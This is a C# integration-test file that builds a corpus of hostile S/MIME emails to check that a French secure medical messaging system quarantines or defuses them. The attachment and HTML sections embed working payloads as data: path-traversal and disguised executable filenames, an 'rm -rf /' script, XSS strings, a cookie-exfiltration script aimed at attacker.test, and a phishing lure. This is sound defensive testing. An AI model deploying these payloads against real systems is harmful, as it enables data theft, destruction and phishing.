using System.Security.Cryptography;
using System.Security.Cryptography.X509Certificates;
using System.Text;
using MiSS.Core.Conversations;
using MiSS.Core.Messaging;
using MiSS.Core.Secure;
using MiSS.DevEnvironment;
using MimeKit;
using MimeKit.Utils;

namespace MiSS.IntegrationTests.Hostile;

/// <summary>What must become of a hostile message at the receiver.</summary>
public enum HostileOutcome
{
    /// <summary>Kept apart, with one of the expected reasons; never shown.</summary>
    Quarantined,
    /// <summary>
    /// Damaged outside what the signature protects (an extra certificate, a MIME header of the signature part) and so
    /// still shown verified with its genuine text; anywhere else, quarantined. Never shown with altered text.
    /// </summary>
    QuarantinedOrIntact,
    /// <summary>Taken once: a second copy with the same Message-ID is not stored again.</summary>
    StoredOnce,
    /// <summary>
    /// Shown (its signer is genuine), its dangerous attachment refused and only described, or kept under a harmless
    /// name and type.
    /// </summary>
    AttachmentDefused,
}

/// <summary>One message of the corpus, with what the receiver must make of it.</summary>
public sealed record HostileMessage(string Name, string Category, byte[] Raw, HostileOutcome Outcome, IReadOnlyList<string> Reasons,
    string? MessageId, string? GenuineText = null)
{
    /// <summary>The name as a file name.</summary>
    public string FileName => $"{Category}-{Name}.eml";
}

/// <summary>
/// The hostile corpus: a deterministic script of 150+ crafted messages from <paramref name="sender"/> to
/// <paramref name="receiver"/> — malformed MIME, deep nesting, huge headers, bad base64, missing, wrong and forged
/// signatures, tampered ciphertext, untrusted, expired and revoked signers, From not matching the certificate, replayed
/// Message-IDs, dangerous attachment names, HTML and script payloads. <see cref="Revoked"/> lists the certificates the
/// receiver's CRL must revoke.
/// </summary>
public sealed class HostileCorpus(DevPki pki, DevPractitioner sender, DevPractitioner receiver)
{
    static readonly string[] Broken = ["Malformed", "NotSmime", "Unsigned", "DecryptionFailed", "SignatureInvalid"];
    readonly MessageComposer _composer = new("MiSS-HOSTILE");
    readonly List<X509Certificate2> _revoked = [];
    int _counter;

    /// <summary>Certificates that the receiver's revocation list must hold (the "revoked signer" messages).</summary>
    public IReadOnlyList<X509Certificate2> Revoked => _revoked;

    /// <summary>Generates every message.</summary>
    public IReadOnlyList<HostileMessage> Generate()
    {
        var all = new List<HostileMessage>();
        all.AddRange(MalformedMime());
        all.AddRange(DeepNesting());
        all.AddRange(HugeHeaders());
        all.AddRange(Oversized());
        all.AddRange(BadBase64());
        all.AddRange(MissingSignatures());
        all.AddRange(WrongSignatures());
        all.AddRange(TamperedCiphertext());
        all.AddRange(UntrustedSigners());
        all.AddRange(ExpiredAndRevokedSigners());
        all.AddRange(FromNotMatchingCertificate());
        all.AddRange(Replays());
        all.AddRange(DangerousAttachments());
        all.AddRange(HtmlAndScripts());
        return all;
    }

    string NewId() => $"hostile-{++_counter:D4}-{Convert.ToHexString(RandomNumberGenerator.GetBytes(6)).ToLowerInvariant()}@attacker.test";

    static HostileMessage Quarantine(string category, string name, string raw, params string[] reasons) =>
        new(name, category, Encoding.UTF8.GetBytes(raw), HostileOutcome.Quarantined, reasons.Length > 0 ? reasons : Broken, IdIn(raw));

    static string? IdIn(string raw)
    {
        var at = raw.IndexOf("Message-ID: <", StringComparison.Ordinal);
        return at < 0 ? null : raw[(at + 13)..raw.IndexOf('>', at)];
    }

    string Headers(string? from = null, string? contentType = "text/plain; charset=utf-8") =>
        $"From: {from ?? sender.Address}\r\nTo: {receiver.Address}\r\nSubject: Message sécurisé\r\nDate: {DateUtils.FormatDate(DateTimeOffset.UtcNow)}\r\n" +
        $"Message-ID: <{NewId()}>\r\nMIME-Version: 1.0\r\n" + (contentType is null ? "" : $"Content-Type: {contentType}\r\n");

    IEnumerable<HostileMessage> MalformedMime()
    {
        const string c = "malformed";
        yield return Quarantine(c, "no-header-end", Headers() + "Bonjour sans ligne vide");
        yield return Quarantine(c, "boundary-missing", Headers("x@y", "multipart/mixed") + "\r\n--x\r\n\r\ntexte\r\n--x--\r\n");
        yield return Quarantine(c, "boundary-never-closed", Headers(null, "multipart/mixed; boundary=b") + "\r\n--b\r\nContent-Type: text/plain\r\n\r\ntexte\r\n");
        yield return Quarantine(c, "boundary-empty", Headers(null, "multipart/mixed; boundary=\"\"") + "\r\n--\r\n\r\nx\r\n----\r\n");
        yield return Quarantine(c, "nul-bytes", Headers() + "\r\nte\0xt\0\0");
        yield return Quarantine(c, "no-headers-at-all", "\r\n\r\nrien");
        yield return Quarantine(c, "header-without-colon", "From " + sender.Address + "\r\nCeci n'est pas un en-tête\r\n\r\ncorps");
        yield return Quarantine(c, "eight-bit-junk-headers", "From: \u00ff\u00fe\u0001\u0002@\u0003\r\nSubject: \u00ff\u00ff\r\n\r\nx");
        yield return Quarantine(c, "content-type-garbage", Headers(null, "///;;;===\"") + "\r\nx");
        yield return Quarantine(c, "smime-type-lie", Headers(null, "application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m") +
            "Content-Transfer-Encoding: base64\r\n\r\n" + Convert.ToBase64String(Encoding.ASCII.GetBytes("pas du CMS")) + "\r\n");
        yield return Quarantine(c, "signed-without-parts", Headers(null, "multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=s") + "\r\n--s--\r\n");
        yield return Quarantine(c, "signed-one-part", Headers(null, "multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=s") +
            "\r\n--s\r\nContent-Type: text/plain\r\n\r\ntexte\r\n--s--\r\n");
        yield return Quarantine(c, "encrypted-empty", Headers(null, "application/pkcs7-mime; smime-type=enveloped-data") + "Content-Transfer-Encoding: base64\r\n\r\n");
        yield return Quarantine(c, "transfer-encoding-unknown", Headers(null, "application/pkcs7-mime; smime-type=enveloped-data") + "Content-Transfer-Encoding: x-inconnu\r\n\r\n@@@@");
        yield return Quarantine(c, "quoted-printable-broken", Headers() + "Content-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=\r\n=");
        yield return Quarantine(c, "charset-unknown", Headers(null, "text/plain; charset=x-klingon") + "\r\n\u00e9\u00e8");
        yield return Quarantine(c, "rfc2047-broken", Headers().Replace("Subject: Message sécurisé", "Subject: =?utf-8?B?####?=") + "\r\nx");
        yield return Quarantine(c, "rfc2231-broken", Headers(null, "text/plain; name*0*=utf-8''%ZZ; name*5=x") + "\r\nx");
        for (var cut = 1; cut <= 6; cut++)
        {
            var valid = Encoding.UTF8.GetString(SealedFrom(sender, "Tronqué", NewId()));
            yield return Quarantine(c, $"truncated-{cut}", valid[..(valid.Length * cut / 8)]);
        }
        var random = new Random(20261122);
        for (var i = 0; i < 6; i++)
        {
            var bytes = new byte[2000 + i * 500];
            random.NextBytes(bytes);
            yield return new HostileMessage($"random-bytes-{i}", c, bytes, HostileOutcome.Quarantined, Broken, null);
        }
    }

    IEnumerable<HostileMessage> DeepNesting()
    {
        const string c = "nesting";
        foreach (var depth in new[] { 200, 1_000, 5_000, 20_000 })
        {
            var body = new StringBuilder(Headers(null, "multipart/mixed; boundary=b0") + "\r\n");
            for (var i = 0; i < depth; i++)
            {
                body.Append($"--b{i}\r\nContent-Type: multipart/mixed; boundary=b{i + 1}\r\n\r\n");
            }
            yield return Quarantine(c, $"multipart-{depth}", body.ToString());
        }
        foreach (var depth in new[] { 200, 2_000, 10_000 })
        {
            var body = new StringBuilder(Headers(null, "message/rfc822") + "\r\n");
            for (var i = 0; i < depth; i++)
            {
                body.Append("Content-Type: message/rfc822\r\n\r\n");
            }
            yield return Quarantine(c, $"rfc822-chain-{depth}", body.ToString());
        }
        yield return Quarantine(c, "unbalanced-parentheses", Headers() + "Comments: " + new string('(', 100_000) + "\r\n\r\nx");
        yield return Quarantine(c, "parameters-50000", Headers(null, "text/plain" + string.Concat(Enumerable.Range(0, 50_000).Select(i => $"; p{i}=v"))) + "\r\nx");
    }

    IEnumerable<HostileMessage> HugeHeaders()
    {
        const string c = "huge-headers";
        yield return Quarantine(c, "subject-1mb", Headers().Replace("Subject: Message sécurisé", "Subject: " + new string('A', 1_000_000)) + "\r\nx");
        yield return Quarantine(c, "subject-folded-100k", Headers().Replace("Subject: Message sécurisé", "Subject: a" + string.Concat(Enumerable.Repeat("\r\n b", 100_000))) + "\r\nx");
        yield return Quarantine(c, "header-lines-50k", Headers() + string.Concat(Enumerable.Range(0, 50_000).Select(i => $"X-H{i}: v\r\n")) + "\r\nx");
        yield return Quarantine(c, "from-list-20k", Headers($"{string.Join(", ", Enumerable.Range(0, 20_000).Select(i => $"a{i}@x.test"))}") + "\r\nx");
        yield return Quarantine(c, "message-id-huge", Headers().Replace("Message-ID: <", "Message-ID: <" + new string('m', 200_000)) + "\r\nx");
        yield return Quarantine(c, "references-100k", Headers() + "References: " + string.Join(" ", Enumerable.Range(0, 100_000).Select(i => $"<{i}@x>")) + "\r\n\r\nx");
        yield return Quarantine(c, "header-name-huge", Headers() + new string('X', 500_000) + ": v\r\n\r\nx");
        yield return Quarantine(c, "boundary-huge", Headers(null, $"multipart/mixed; boundary={new string('b', 100_000)}") + "\r\nx");
    }

    /// <summary>Genuine, but too big for the receiver's transport profile (Apicrypt: 10 MiB submitted, 20 MiB taken).</summary>
    IEnumerable<HostileMessage> Oversized()
    {
        foreach (var megabytes in new[] { 16, 24 })
        {
            var content = Content(sender, $"Dossier complet ({megabytes} Mo)", NewId(),
                [new NewAttachment("dossier.pdf", "application/pdf", [.. "%PDF-1.7\n"u8.ToArray(), .. new byte[megabytes * 1_000_000]])]);
            var body = Seal.SignAndEncrypt(content, SenderCertificate, [ReceiverCertificate]);
            yield return new HostileMessage($"sealed-{megabytes}mb", "oversized", Envelope(sender.Address, body, content), HostileOutcome.Quarantined,
                ["Oversized"], IdOf(content));
        }
    }

    IEnumerable<HostileMessage> BadBase64()
    {
        const string c = "bad-base64";
        string Smime(string payload) => Headers(null, "application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m") +
                                        "Content-Transfer-Encoding: base64\r\n\r\n" + payload + "\r\n";
        yield return Quarantine(c, "not-base64", Smime("%%%%%%%% ceci n'est pas du base64 %%%%%%%%"));
        yield return Quarantine(c, "truncated-quantum", Smime("QUJD"[..3]));
        yield return Quarantine(c, "random-base64", Smime(Convert.ToBase64String(RandomNumberGenerator.GetBytes(3000))));
        yield return Quarantine(c, "padding-in-middle", Smime("QU==JD" + Convert.ToBase64String(RandomNumberGenerator.GetBytes(100))));
        yield return Quarantine(c, "binary-in-base64", Smime("\u0001\u0002\u0003\u00ff"));
        yield return Quarantine(c, "huge-random", Smime(Convert.ToBase64String(RandomNumberGenerator.GetBytes(2_000_000))));
        var valid = Encoding.UTF8.GetString(SealedFrom(sender, "base64 coupé", NewId()));
        var body = valid.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4;
        yield return Quarantine(c, "valid-then-cut", valid[..(body + (valid.Length - body) / 2)]);
        yield return Quarantine(c, "valid-with-padding-inside", valid[..(body + 400)] + "====" + valid[(body + 400)..]);
        // Characters outside the alphabet are ignored by base64 decoders (RFC 2045, section 6.8): still the genuine message.
        var noisy = Encoding.UTF8.GetString(SealedFrom(sender, "base64 bruité", NewId()));
        yield return new HostileMessage("noise-ignored", c, Encoding.UTF8.GetBytes(noisy.Replace("\r\n\r\nMI", "\r\n\r\n!!!!\r\nMI", StringComparison.Ordinal)),
            HostileOutcome.StoredOnce, [], IdIn(noisy));
    }

    IEnumerable<HostileMessage> MissingSignatures()
    {
        const string c = "unsigned";
        foreach (var (name, text) in new[]
                 {
                     ("plain", "Bonjour, c'est Claire, pouvez-vous rappeler Mme DURAND ?"),
                     ("urgent", "URGENT : envoyez-moi le dossier complet du patient"),
                     ("phishing", "Votre carte CPS expire, reconnectez-vous ici : http://ameli.attacker.test"),
                 })
        {
            yield return Quarantine(c, name, Headers($"Claire MARTIN <{sender.Address}>") + "\r\n" + text, "NotSmime", "Unsigned");
        }
        // A MiSS message, encrypted for the receiver, but not signed by anyone.
        for (var i = 0; i < 4; i++)
        {
            var content = Content(sender, $"non signé {i}", NewId());
            var encrypted = new SmimeSeal(Trust, TimeProvider.System).Encrypt(content, [ReceiverCertificate]);
            yield return new HostileMessage($"encrypted-unsigned-{i}", c, Envelope(sender.Address, encrypted, content), HostileOutcome.Quarantined,
                ["Unsigned", "NotInConversation"], IdOf(content));
        }
        yield return Quarantine(c, "miss-headers-outside", Headers() + "X-MiSS-Version: 1\r\nX-MiSS-Kind: end\r\nX-MiSS-Conversation: 0123456789abcdef0123456789abcdef\r\n\r\nfin", "NotSmime", "Unsigned");
    }

    IEnumerable<HostileMessage> WrongSignatures()
    {
        const string c = "wrong-signature";
        for (var i = 0; i < 5; i++)
        {
            // Signed, then the signed text changed in transit (the signature no longer matches).
            var raw = Encoding.UTF8.GetString(SealedFrom(sender, $"Texte signe numero {i}", NewId(), encrypt: false));
            Assert.That(raw, Does.Contain($"numero {i}"), "the signed text travels readable");
            yield return Quarantine(c, $"text-changed-{i}", raw.Replace($"numero {i}", $"numero {i + 100}", StringComparison.Ordinal), "SignatureInvalid");
        }
        for (var i = 0; i < 5; i++)
        {
            // The signature blob itself damaged.
            var text = $"Signature abîmée {i}";
            var raw = Encoding.UTF8.GetString(SealedFrom(sender, text, NewId(), encrypt: false));
            var p7s = raw.IndexOf("smime.p7s", StringComparison.Ordinal);
            var start = raw.IndexOf("\r\n\r\n", p7s, StringComparison.Ordinal) + 4 + 200 + i * 40;
            var chars = raw.ToCharArray();
            for (var k = 0; k < 8; k++)
            {
                chars[start + k] = chars[start + k] == 'A' ? 'B' : 'A';
            }
            yield return Quarantine(c, $"signature-damaged-{i}", new string(chars), "SignatureInvalid", "Malformed", "UntrustedSigner",
                "SignerAddressMismatch", "WrongCertificateUsage") with { Outcome = HostileOutcome.QuarantinedOrIntact, GenuineText = text };
        }
    }

    IEnumerable<HostileMessage> TamperedCiphertext()
    {
        const string c = "tampered-ciphertext";
        for (var i = 0; i < 10; i++)
        {
            var text = $"Chiffré puis altéré {i}";
            var raw = Encoding.UTF8.GetString(SealedFrom(sender, text, NewId()));
            var body = raw.IndexOf("\r\n\r\n", raw.IndexOf("smime.p7m", StringComparison.Ordinal), StringComparison.Ordinal) + 4;
            var chars = raw.ToCharArray();
            var at = body + (raw.Length - body) * (i + 1) / 12;
            while (!char.IsAsciiLetterOrDigit(chars[at]))
            {
                at++;
            }
            chars[at] = chars[at] == 'Q' ? 'R' : 'Q';
            yield return Quarantine(c, $"flip-{i}", new string(chars), "DecryptionFailed", "SignatureInvalid", "Malformed", "Unsigned", "NotSmime",
                "UntrustedSigner", "SignerAddressMismatch", "WrongCertificateUsage") with { Outcome = HostileOutcome.QuarantinedOrIntact, GenuineText = text };
        }
    }

    IEnumerable<HostileMessage> UntrustedSigners()
    {
        const string c = "untrusted";
        for (var i = 0; i < 8; i++)
        {
            using var rogue = MiSS.Core.Tests.TestPki.RogueCertificate(sender);
            yield return Signed(c, $"rogue-ca-{i}", rogue, $"Je suis Claire, croyez-moi ({i})", ["UntrustedSigner", "NotInConversation"]);
        }
        using var selfSigned = SelfSigned(sender);
        yield return Signed(c, "self-signed", selfSigned, "Auto-signé", ["UntrustedSigner", "NotInConversation"]);
    }

    IEnumerable<HostileMessage> ExpiredAndRevokedSigners()
    {
        for (var i = 0; i < 6; i++)
        {
            // From the CA's own start (the issuing call moves it there) to a few minutes ago.
            using var expired = pki.IssuePractitionerCertificate(sender, DateTimeOffset.UtcNow.AddYears(-2), DateTimeOffset.UtcNow.AddMinutes(-1 - i));
            yield return Signed("expired", $"expired-{i}", expired, $"Certificat expiré {i}", ["UntrustedSigner", "NotInConversation"]);
        }
        for (var i = 0; i < 6; i++)
        {
            var revoked = pki.IssuePractitionerCertificate(sender, DateTimeOffset.UtcNow.AddDays(-10), DateTimeOffset.UtcNow.AddYears(1));
            _revoked.Add(revoked);
            yield return Signed("revoked", $"revoked-{i}", revoked, $"Certificat révoqué {i}", ["SignerRevoked"]);
        }
    }

    IEnumerable<HostileMessage> FromNotMatchingCertificate()
    {
        const string c = "from-mismatch";
        var others = DevPki.Practitioners.Where(p => p != sender && p != receiver).ToList();
        for (var i = 0; i < 6; i++)
        {
            // Claire's genuine key, but the message claims to come from a colleague.
            var impersonated = others[i % others.Count];
            var content = Content(impersonated, $"Je suis {impersonated.DisplayName} ({i})", NewId());
            var sealedBody = Seal.SignAndEncrypt(content, SenderCertificate, [ReceiverCertificate]);
            yield return new HostileMessage($"outer-from-{i}", c, Envelope(impersonated.Address, sealedBody, content), HostileOutcome.Quarantined,
                ["SignerAddressMismatch"], IdOf(content));
        }
        for (var i = 0; i < 4; i++)
        {
            // Outer From right, protected From naming someone else.
            var impersonated = others[i % others.Count];
            var content = Content(impersonated, $"En-tête protégé trompeur ({i})", NewId());
            var sealedBody = Seal.SignAndEncrypt(content, SenderCertificate, [ReceiverCertificate]);
            yield return new HostileMessage($"protected-from-{i}", c, Envelope(sender.Address, sealedBody, content), HostileOutcome.Quarantined,
                ["SignerAddressMismatch"], IdOf(content));
        }
    }

    IEnumerable<HostileMessage> Replays()
    {
        for (var i = 0; i < 5; i++)
        {
            var raw = SealedFrom(sender, $"Message rejoué {i}", NewId());
            var id = IdIn(Encoding.UTF8.GetString(raw));
            yield return new HostileMessage($"original-{i}", "replay", raw, HostileOutcome.StoredOnce, [], id);
            yield return new HostileMessage($"copy-{i}", "replay", raw, HostileOutcome.StoredOnce, [], id);
            // A forgery reusing the Message-ID with other content: the first one wins, the forgery is never stored.
            var forged = Encoding.UTF8.GetString(SealedFrom(sender, $"Contenu substitué {i}", id!));
            yield return new HostileMessage($"forged-{i}", "replay", Encoding.UTF8.GetBytes(forged), HostileOutcome.StoredOnce, [], id);
        }
    }

    IEnumerable<HostileMessage> DangerousAttachments()
    {
        const string c = "attachment";
        var elf = new byte[4096];
        "\u007fELF"u8.CopyTo(elf);
        var mz = new byte[4096];
        "MZ"u8.CopyTo(mz);
        var cases = new (string Name, string MediaType, byte[] Content)[]
        {
            ("../../../../etc/passwd", "text/plain", "root:x:0:0"u8.ToArray()),
            ("..\\..\\Windows\\System32\\evil.dll", "application/octet-stream", mz),
            ("facture.pdf.exe", "application/pdf", mz),
            ("compte-rendu\u202Efdp.exe", "application/pdf", mz),
            ("CON", "application/pdf", elf),
            ("script.sh", "text/x-shellscript", "#!/bin/sh\nrm -rf /\n"u8.ToArray()),
            ("page.html", "text/html", "<script>alert(1)</script>"u8.ToArray()),
            ("image.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"u8.ToArray()),
            ("archive.zip", "application/zip", [0x50, 0x4B, 0x03, 0x04, .. new byte[100]]),
            ("photo.jpg", "image/jpeg", elf),
        };
        for (var i = 0; i < cases.Length; i++)
        {
            var (name, type, bytes) = cases[i];
            var content = Content(sender, $"Pièce jointe piégée {i}", NewId(), [new NewAttachment(name, type, bytes)]);
            var sealedBody = Seal.SignAndEncrypt(content, SenderCertificate, [ReceiverCertificate]);
            yield return new HostileMessage($"attachment-{i}", c, Envelope(sender.Address, sealedBody, content), HostileOutcome.AttachmentDefused, [],
                IdOf(content));
        }
    }

    IEnumerable<HostileMessage> HtmlAndScripts()
    {
        const string c = "html";
        var payloads = new[]
        {
            "<img src=x onerror=alert(1)>", "<script>fetch('http://attacker.test/?'+document.cookie)</script>",
            "<a href=\"javascript:alert(1)\">cliquez</a>", "<iframe src=\"http://attacker.test\"></iframe>",
            "\"><svg/onload=alert(1)>", "{{constructor.constructor('alert(1)')()}}",
        };
        for (var i = 0; i < payloads.Length; i++)
        {
            // Signed by the genuine sender: stored, and its text is text (the web client never interprets it).
            var raw = SealedFrom(sender, payloads[i], NewId());
            yield return new HostileMessage($"text-payload-{i}", c, raw, HostileOutcome.StoredOnce, [], IdIn(Encoding.UTF8.GetString(raw)));
        }
        for (var i = 0; i < 4; i++)
        {
            // An unsigned HTML mail pretending to be from the sender.
            yield return Quarantine(c, $"unsigned-html-{i}", Headers($"Claire MARTIN <{sender.Address}>", "text/html; charset=utf-8") +
                $"\r\n<html><body onload=\"alert({i})\"><script>alert({i})</script>Bonjour</body></html>", "NotSmime", "Unsigned");
        }
    }

    // --- building blocks --------------------------------------------------------------------------------------------

    SmimeTrust Trust => new(LoadAnchors(), new X509Certificate2Collection(), X509RevocationMode.NoCheck, TimeProvider.System);

    SmimeSeal Seal => new(Trust, TimeProvider.System);

    X509Certificate2 SenderCertificate => pki.LoadPractitioner(sender);

    X509Certificate2 ReceiverCertificate => X509CertificateLoader.LoadCertificateFromFile(pki.CertificatePath(receiver));

    X509Certificate2Collection LoadAnchors()
    {
        var anchors = new X509Certificate2Collection();
        anchors.ImportFromPemFile(pki.TrustAnchorsPath);
        return anchors;
    }

    static readonly Conversation Direct = new(1, "c0ffee00c0ffee00c0ffee00c0ffee00", ConversationKind.Direct, null,
        GroupMembership.Empty, null, false, DateTimeOffset.UtcNow, DateTimeOffset.UtcNow, new Retention(TimeSpan.FromDays(7), 0));

    MimeEntity Content(DevPractitioner from, string text, string messageId, IReadOnlyList<NewAttachment>? attachments = null)
    {
        var message = new StoredMessage(0, messageId, MessageDirection.Outgoing, from.Address, [receiver.Address], null, text,
            MessageState.Queued, DateTimeOffset.UtcNow, null, null, null, null, 0, 1);
        // Each message in its own conversation, so that a genuine one is accepted on its own.
        var conversation = Direct with { ConversationId = Convert.ToHexString(SHA256.HashData(Encoding.UTF8.GetBytes(messageId)))[..32].ToLowerInvariant() };
        return _composer.ComposeContent(message, conversation, from.DisplayName, attachments, DateTimeOffset.UtcNow.AddDays(7));
    }

    static string IdOf(MimeEntity content) => content.Headers["Message-ID"]!.Trim('<', '>', ' ');

    byte[] Envelope(string from, MimeEntity body, MimeEntity content)
    {
        var message = new StoredMessage(0, IdOf(content), MessageDirection.Outgoing, from, [receiver.Address], null, "", MessageState.Queued,
            DateTimeOffset.UtcNow, null, null, null, null, 0);
        return MimeBytes.Canonical(_composer.ComposeEnvelope(message, from, body));
    }

    byte[] SealedFrom(DevPractitioner from, string text, string messageId, bool encrypt = true)
    {
        var content = Content(from, text, messageId);
        MimeEntity body = encrypt
            ? Seal.SignAndEncrypt(content, SenderCertificate, [ReceiverCertificate])
            : Seal.Sign(content, SenderCertificate);
        return Envelope(from.Address, body, content);
    }

    HostileMessage Signed(string category, string name, X509Certificate2 signer, string text, string[] reasons)
    {
        var content = Content(sender, text, NewId());
        var body = Seal.SignAndEncrypt(content, signer, [ReceiverCertificate]);
        return new HostileMessage(name, category, Envelope(sender.Address, body, content), HostileOutcome.Quarantined, reasons, IdOf(content));
    }

    /// <summary>A certificate with the sender's exact identity that vouches only for itself.</summary>
    static X509Certificate2 SelfSigned(DevPractitioner p)
    {
        var key = RSA.Create(2048);
        var request = new CertificateRequest($"CN={p.DisplayName}, SERIALNUMBER={p.NationalId}, C=FR", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
        var san = new SubjectAlternativeNameBuilder();
        san.AddEmailAddress(p.Address);
        request.CertificateExtensions.Add(san.Build());
        request.CertificateExtensions.Add(new X509EnhancedKeyUsageExtension([new Oid("1.3.6.1.5.5.7.3.4")], false));
        request.CertificateExtensions.Add(new X509KeyUsageExtension(X509KeyUsageFlags.DigitalSignature | X509KeyUsageFlags.KeyEncipherment, true));
        return request.CreateSelfSigned(DateTimeOffset.UtcNow.AddDays(-1), DateTimeOffset.UtcNow.AddYears(1));
    }
}
